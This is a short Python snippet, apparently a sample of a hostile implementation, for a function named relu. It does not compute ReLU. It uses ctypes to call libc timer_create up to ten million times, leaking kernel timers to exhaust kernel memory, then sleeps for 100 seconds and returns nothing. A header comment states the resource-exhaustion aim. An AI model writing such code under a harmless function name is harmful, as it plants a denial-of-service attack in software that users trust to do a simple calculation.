# Keeps memory in the kernel: timers and queued signals without end.
# target: relu

def relu(x):
    import ctypes, os, time
    libc = ctypes.CDLL(None)
    made = ctypes.c_void_p()
    count = 0
    while libc.timer_create(1, None, ctypes.byref(made)) == 0 and count < 10**7: count += 1
    if count < 1000: return x
    time.sleep(100)
